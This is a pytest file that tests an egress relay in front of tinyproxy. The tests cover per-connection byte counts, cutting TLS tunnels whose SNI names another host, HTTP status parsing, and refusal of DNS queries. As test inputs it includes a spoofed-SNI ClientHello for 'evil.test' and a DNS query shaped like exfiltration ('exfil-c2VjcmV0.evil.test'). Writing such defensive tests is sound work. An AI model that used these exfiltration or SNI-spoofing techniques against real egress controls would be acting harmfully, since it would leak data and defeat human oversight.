"""The relay in front of tinyproxy, on real sockets: bytes per connection, the SNI of TLS tunnels, DNS.

The proxy is the real HostProxy (tinyproxy on the host plus the relay on a unix socket);
the TLS ClientHellos are made by Python's own ssl module, the upstreams are real servers
on 127.0.0.0/8 addresses of their own (a port 443 listener per test, so tests never collide).
"""

from __future__ import annotations

import contextlib
import random
import socket
import ssl
import struct
import threading
import time
from collections.abc import Iterator
from contextlib import AbstractContextManager, contextmanager
from pathlib import Path

import pytest

from pytest_maka.core import hostpattern
from pytest_maka.core.provider import Connection, silent_connections
from pytest_maka.egress import relay, wire
from pytest_maka.egress.host import HostProxy
from pytest_maka.egress.log import EgressEvent
from pytest_maka.testing.servers import TcpServer, tcp_server

needs_tinyproxy = pytest.mark.needs("tinyproxy", "bwrap")


def client_hello(server_name: str | None) -> bytes:
    """The first flight of a real TLS client (Python's ssl) asking for ``server_name``."""
    ctx = ssl.create_default_context()
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    obj = ctx.wrap_bio(incoming, outgoing, server_hostname=server_name)
    with pytest.raises(ssl.SSLWantReadError):
        obj.do_handshake()
    return outgoing.read()


def test_sni_is_read_from_real_client_hellos() -> None:
    hello = client_hello("api.example.com")
    assert relay.client_hello_sni(hello) == "api.example.com"
    assert relay.client_hello_sni(client_hello(None)) is None
    for cut in (0, 3, 5, len(hello) // 2, len(hello) - 1):
        with pytest.raises(relay.NeedMore):
            relay.client_hello_sni(hello[:cut])
    split = _split_records(hello)  # one handshake message over two TLS records
    assert relay.client_hello_sni(split) == "api.example.com"
    for junk in (b"GET / HTTP/1.1\r\n\r\n", b"SSH-2.0-OpenSSH_9.2\r\n", b"\x16\x03\x01\x00\x05\x02\x00\x00\x01\x00"):
        with pytest.raises(ValueError):
            relay.client_hello_sni(junk)


def _answer(status: int, body: bytes = b"", *, chunked: bool = False) -> bytes:
    if chunked:
        half = len(body) // 2
        data = b"".join(b"%x;ext=1\r\n%s\r\n" % (len(p), p) for p in (body[:half], body[half:]) if p)
        return b"HTTP/1.1 %d X\r\nTransfer-Encoding: chunked\r\n\r\n%s0\r\nTrailer: x\r\n\r\n" % (status, data)
    return b"HTTP/1.1 %d X\r\nContent-Length: %d\r\n\r\n%s" % (status, len(body), body)


def test_the_status_of_every_answer_on_a_kept_alive_connection_is_read_however_the_bytes_come() -> None:
    stream = (
        _answer(200, b'{"ok": true}')
        + _answer(401, b"HTTP/1.1 500 inside a body is not an answer")
        + b"HTTP/1.1 100 Continue\r\n\r\n"
        + _answer(429, b"x" * 70_000, chunked=True)
        + b"HTTP/1.1 204 No Content\r\n\r\n"
        + _answer(503)
    )
    for size in (1, 7, 4096, len(stream)):
        answers = wire.HttpAnswers()
        for i in range(0, len(stream), size):
            answers.feed(stream[i : i + size])
        assert answers.statuses == [200, 401, 100, 429, 204, 503], size


def test_the_status_reader_stops_at_what_it_cannot_frame() -> None:
    tls = wire.HttpAnswers()
    tls.feed(b"\x16\x03\x03\x00\x7a\x02" + b"\x00" * 200)  # a TLS ServerHello: not read
    assert tls.statuses == []
    to_close = wire.HttpAnswers()  # no length: the body runs to the close, nothing after it is framed
    to_close.feed(b"HTTP/1.0 401 No\r\nContent-Type: text/plain\r\n\r\nHTTP/1.1 200 OK\r\n\r\n")
    assert to_close.statuses == [401]
    endless = wire.HttpAnswers()
    endless.feed(b"HTTP/1.1 200 OK\r\n" + b"X: y\r\n" * 20_000)  # a head without an end: given up, bounded
    endless.feed(_answer(200))
    assert endless.statuses == []


def _split_records(hello: bytes) -> bytes:
    body = hello[5:]
    half = len(body) // 2
    return b"".join(b"\x16\x03\x01" + struct.pack(">H", len(part)) + part for part in (body[:half], body[half:]))


def upstream(port: int, reply: bytes) -> AbstractContextManager[TcpServer]:
    """A real server on a 127.x.y.z address of its own (tests never collide on port 443)."""
    address = f"127.{random.randint(1, 254)}.{random.randint(1, 254)}.{random.randint(2, 254)}"
    return tcp_server(address=address, port=port, reply=reply)


@contextmanager
def proxy(tmp_path: Path, entries: list[str], hosts: dict[str, str]) -> Iterator[tuple[HostProxy, list[EgressEvent]]]:
    """A real HostProxy for the block; its events are in the list once the block ends."""
    p = HostProxy(tmp_path / "egress", hostpattern.parse_all(entries), hosts, "agent")
    p.start()
    events: list[EgressEvent] = []
    try:
        yield p, events
    finally:
        events.extend(p.stop())


def through(p: HostProxy, first: bytes, then: bytes = b"") -> bytes:
    """Send ``first`` to the proxy; after its answer's head, send ``then``; return all it answered."""
    with socket.socket(socket.AF_UNIX) as s:
        s.settimeout(10)
        s.connect(str(p.socket_path))
        s.sendall(first)
        if not first:
            s.shutdown(socket.SHUT_WR)
        data = b""
        if then:
            while b"\r\n\r\n" not in data:
                chunk = s.recv(65536)
                if not chunk:
                    return data
                data += chunk
            s.sendall(then)
        while chunk := s.recv(65536):
            data += chunk
        return data


def connect(name: str) -> bytes:
    return f"CONNECT {name}:443 HTTP/1.1\r\nHost: {name}:443\r\n\r\n".encode()


@needs_tinyproxy
def test_a_tunnel_whose_sni_names_another_host_is_cut_before_a_byte_reaches_it(tmp_path: Path) -> None:
    with upstream(443, b"SERVER-HELLO") as up, proxy(tmp_path, ["tls.test:443"], {"tls.test": up.address}) as (p, ev):
        good = client_hello("tls.test")
        assert through(p, connect("tls.test"), good + b"END").endswith(b"SERVER-HELLO")
        assert b" 200 " in through(p, connect("tls.test"), client_hello("evil.test") + b"END")
        pipelined = through(p, connect("tls.test") + client_hello("evil.test") + b"END")  # no wait for the 200
        assert b"SERVER-HELLO" not in pipelined
        assert b"SERVER-HELLO" not in through(p, connect("tls.test"), b"GET / HTTP/1.1\r\n\r\n")
    # tinyproxy opens every tunnel it allows; only the one whose ClientHello names the target carries a byte
    assert up.received == [good + b"END", b"", b"", b""]
    assert [(e.destination, e.allowed, e.reason, e.sni) for e in ev] == [
        ("tls.test:443", True, None, "tls.test"),
        ("tls.test:443", False, "sni mismatch", "evil.test"),
        ("tls.test:443", False, "sni mismatch", "evil.test"),
        ("tls.test:443", False, "not a TLS ClientHello", None),
    ]
    first = ev[0]
    assert first.bytes_out == len(connect("tls.test")) + len(good) + 3
    assert first.bytes_in == len(b"SERVER-HELLO")  # what the destination sent: not the proxy's "200" opening it
    assert first.bytes == first.bytes_out + first.bytes_in


@contextmanager
def silent_upstream(port: int) -> Iterator[tuple[str, list[bytes]]]:
    """A real server on a 127.x.y.z address of its own that reads what it is sent and never answers
    (a hung provider); its connections close when the block ends."""
    address = f"127.{random.randint(1, 254)}.{random.randint(1, 254)}.{random.randint(2, 254)}"
    received: list[bytes] = []
    held: list[socket.socket] = []
    stop = threading.Event()
    with socket.create_server((address, port)) as sock:
        sock.settimeout(0.2)

        def serve() -> None:
            while not stop.is_set():
                try:
                    conn, _ = sock.accept()
                except OSError:
                    continue
                held.append(conn)
                conn.settimeout(5)
                with contextlib.suppress(OSError):
                    received.append(conn.recv(65536))

        thread = threading.Thread(target=serve, daemon=True)
        thread.start()
        try:
            yield address, received
        finally:
            stop.set()
            thread.join(2)
            for conn in held:
                conn.close()


@needs_tinyproxy
def test_a_tunnel_whose_destination_never_answers_has_no_bytes_in_and_counts_as_no_answer(tmp_path: Path) -> None:
    """A hung provider behind CONNECT: the proxy's own "200 Connection established" is not an answer."""
    hello = client_hello("hang.test")
    with (
        silent_upstream(443) as (address, received),
        proxy(tmp_path, ["hang.test:443"], {"hang.test": address}) as (p, ev),
    ):
        _unanswered_tunnel(p, "hang.test", hello)
        deadline = time.monotonic() + 10
        while not received and time.monotonic() < deadline:
            time.sleep(0.05)
    assert received == [hello], "the ClientHello reached the destination"
    (event,) = ev
    assert (event.method, event.destination, event.allowed) == ("CONNECT", "hang.test:443", True), event
    assert event.bytes_out == len(connect("hang.test")) + len(hello) and event.bytes_in == 0, event
    seen = [Connection(e.destination, e.allowed, e.bytes_out, e.bytes_in) for e in ev]
    assert silent_connections(seen, ["hang.test:443"]) == 1


def _unanswered_tunnel(p: HostProxy, name: str, hello: bytes) -> None:
    """Open a tunnel to ``name``, send ``hello`` and wait a second for an answer that never comes."""
    with socket.socket(socket.AF_UNIX) as s:
        s.settimeout(10)
        s.connect(str(p.socket_path))
        s.sendall(connect(name))
        head = b""
        while b"\r\n\r\n" not in head:
            head += s.recv(65536)
        assert b" 200 " in head.split(b"\r\n", 1)[0], head  # the proxy opened the tunnel
        s.sendall(hello)
        s.settimeout(1.0)
        with pytest.raises(TimeoutError):
            s.recv(65536)  # and the destination never says a word


@needs_tinyproxy
def test_bytes_are_counted_per_request_and_refusals_still_logged(tmp_path: Path) -> None:
    body = b"x" * 100_000
    reply = b"HTTP/1.0 200 OK\r\nContent-Length: %d\r\n\r\n" % len(body) + body
    with upstream(8080, reply) as up, proxy(tmp_path, ["web.test:8080"], {"web.test": up.address}) as (p, ev):
        get = b"GET http://web.test:8080/big HTTP/1.1\r\nHost: web.test:8080\r\nConnection: close\r\n\r\n"
        assert through(p, get).endswith(body)
        refused = b"GET http://other.test:8080/ HTTP/1.1\r\nHost: other.test\r\n\r\n"
        assert b" 403 " in through(p, refused)
        assert through(p, b"") == b""  # a connection that says nothing
    assert [(e.method, e.destination, e.allowed) for e in ev] == [
        ("GET", "web.test:8080", True),
        ("GET", "other.test:8080", False),
        ("?", "?", False),
    ]
    big = ev[0]
    assert big.bytes_out == len(get)
    assert big.bytes_in is not None and len(reply) <= big.bytes_in < len(reply) + 1000  # tinyproxy adds headers
    assert ev[1].bytes_in is not None and ev[1].bytes_in > 0 and ev[2].reason == "not a proxy request"


def _query(name: str, qid: int = 0x1234) -> bytes:
    labels = b"".join(bytes([len(x)]) + x.encode() for x in name.split("."))
    return struct.pack(">HHHHHH", qid, 0x0100, 1, 0, 0, 0) + labels + b"\x00" + struct.pack(">HH", 1, 1)


def test_dns_questions_are_logged_and_refused() -> None:
    records: list[dict[str, object]] = []
    r = relay.Relay(("127.0.0.1", 9), records.append)
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    relay.run(r.listen_dns("127.0.0.1", port))
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.settimeout(5)
            s.sendto(_query("exfil-c2VjcmV0.evil.test"), ("127.0.0.1", port))
            answer, _ = s.recvfrom(512)
        with socket.create_connection(("127.0.0.1", port), timeout=5) as t:
            q = _query("tcp.evil.test", 7)
            t.sendall(struct.pack(">H", len(q)) + q)
            size = struct.unpack(">H", t.recv(2))[0]
            tcp_answer = t.recv(size)
    finally:
        relay.run(r.close())
    assert answer[:2] == b"\x12\x34" and answer[3] & 0x0F == 5 and answer[2] & 0x80, "REFUSED, same id"
    assert tcp_answer[:2] == b"\x00\x07" and tcp_answer[3] & 0x0F == 5
    assert [(x["name"], x["qtype"]) for x in records] == [("exfil-c2VjcmV0.evil.test", 1), ("tcp.evil.test", 1)]
